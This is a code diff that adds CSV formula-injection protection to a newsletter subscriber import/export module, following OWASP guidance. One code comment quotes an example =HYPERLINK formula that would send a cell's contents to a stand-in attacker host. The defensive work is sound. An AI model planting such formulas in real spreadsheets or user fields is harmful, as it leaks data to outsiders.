@@ -25,7 +25,6 @@ from newsletter.subscribers import (
     UpsertResult,
     attribute_names,
     iter_profiles,
-    validate_profile_text,
 )
 
 PROFILE_COLUMNS = ("email", "name", "organisation", "region", "roles")
@@ -157,15 +156,14 @@ def _rows_with_lines(reader: _Reader) -> Iterator[tuple[list[str] | RejectedRow,
 def _row_to_input(header: list[str], cells: list[str]) -> SubscriberInput:
     if len(cells) > len(header):
         raise SubscriberError("row", f"{len(cells)} fields but the header has {len(header)}")
-    values = dict(zip(header, cells, strict=False))
+    values = dict(zip(header, (restore(cell) for cell in cells), strict=False))
     attributes = {k: v for k, v in values.items() if k not in KNOWN_COLUMNS and k and v != ""}
-    profile = {
-        name: validate_profile_text(name, values.get(name, ""))
-        for name in ("name", "organisation", "region")
-    }
+    # SubscriberInput.build checks name, organisation and region (subscribers.check_text).
     return SubscriberInput.build(
         values.get("email", ""),
-        **profile,
+        name=values.get("name", ""),
+        organisation=values.get("organisation", ""),
+        region=values.get("region", ""),
         roles=values.get("roles", "").split(";"),
         attributes=attributes,
         status=values.get("status") or None,
@@ -218,6 +216,32 @@ def import_csv(
     return report
 
 
+# Cells a spreadsheet would read as a formula (OWASP "CSV Injection"): the
+# public writes names and organisations, so a cell such as
+# ``=HYPERLINK("http://evil.example/?x="&A1)`` must arrive as text.
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(cell: str) -> str:
+    """``cell`` made inert for spreadsheets: a leading formula character gets a ``'`` before it.
+
+    OWASP's guidance: prefix the cell with a single quote, which Excel,
+    LibreOffice and Google Sheets show as text and do not evaluate.  The
+    import strips that quote again (:func:`restore`), so an export imports
+    back unchanged.
+    """
+    if cell.startswith(FORMULA_LEADS):
+        return "'" + cell
+    return cell
+
+
+def restore(cell: str) -> str:
+    """Undo :func:`neutralise` for a cell read back from an exported file."""
+    if cell.startswith("'") and cell[1:].startswith(FORMULA_LEADS):
+        return cell[1:]
+    return cell
+
+
 def export_chunks(session: Session) -> Iterator[str]:
     """The export as CSV text, one chunk per page of subscribers (memory stays flat).
 
@@ -228,7 +252,10 @@ def export_chunks(session: Session) -> Iterator[str]:
 
 
 def export_csv(session: Session, out: TextIO) -> int:
-    """Write every subscriber as CSV (the import columns plus attributes); returns the count."""
+    """Write every subscriber as CSV (the import columns plus attributes); returns the count.
+
+    Every cell that starts like a formula is neutralised (:func:`neutralise`).
+    """
     count = 0
     for chunk, rows in _export_pages(session):
         out.write(chunk)
@@ -244,7 +271,8 @@ def _export_pages(session: Session) -> Iterator[tuple[str, int]]:
     rows = 0
     for subscriber in iter_profiles(session):
         writer.writerow(
-            [
+            neutralise(cell)
+            for cell in [
                 subscriber.email,
                 subscriber.name,
                 subscriber.organisation,
